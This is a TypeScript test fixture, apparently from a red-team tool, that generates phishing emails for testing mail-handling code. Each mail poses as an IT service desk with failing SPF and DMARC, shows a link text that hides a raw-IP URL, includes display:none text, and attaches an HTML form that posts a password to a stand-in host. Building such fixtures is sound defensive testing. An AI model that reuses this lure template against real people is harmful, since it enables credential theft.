import { mailText } from "../../../src/redteam/records/mail.ts";
import { hostileTexts, longWord } from "./hostile-texts.ts";

/** As RFC 2047 writes what is not ASCII, or is no character of a header. */
const encoded = (text: string) => `=?utf-8?B?${Buffer.from(text).toString("base64")}?=`;
const asBytes = (text: string) => new TextEncoder().encode(text);

/** Lures whose subjects, senders, readers, links, texts and attachments are named by hostile texts, one mail for each. */
export const hostileMails = (texts: readonly string[] = hostileTexts, nowMs = Date.now()): readonly string[] =>
  texts.map((text, at) =>
    mailText({
      from: `${encoded(`IT Service Desk ${text}`)} <service@accounts-portal.test>`,
      to: [`${encoded(text)} <mara@example.test>`],
      subject: encoded(`${text} ${at % 5 === 0 ? longWord.slice(0, 1_000) : ""}`),
      messageId: `<hostile-${at}@accounts-portal.test>`,
      headers: [
        ["Reply-To", `${encoded(text)} <reply@accounts-portal.test>`],
        ["X-Mailer", encoded(text)],
      ],
      sentMs: nowMs - at * 60_000,
      received: [
        `from mail.accounts-portal.test (mail.accounts-portal.test [203.0.113.66]) by mx.example.test with ESMTP id ${at}; ${new Date(nowMs).toUTCString()}`,
      ],
      authentication:
        "mx.example.test; spf=fail smtp.mailfrom=accounts-portal.test; dkim=none; dmarc=fail header.from=accounts-portal.test",
      text: `Dear user,\n\nverify your account within 24 hours: http://203.0.113.66/verify\n\n${text}`,
      html: `<p>Dear user, your password expires today. Verify your account within 24 hours:</p><p><a href="http://203.0.113.66/verify?of=${encodeURIComponent(text)}">https://portal.example.test/password ${text}</a></p><p style="display:none">${text}</p>`,
      attachments: [
        {
          name: encoded(`${text}.html`),
          type: "text/html",
          bytes: asBytes(`<form action="http://203.0.113.66/take"><input type="password" name="password"></form><p>${text}</p>`),
        },
      ],
    }),
  );
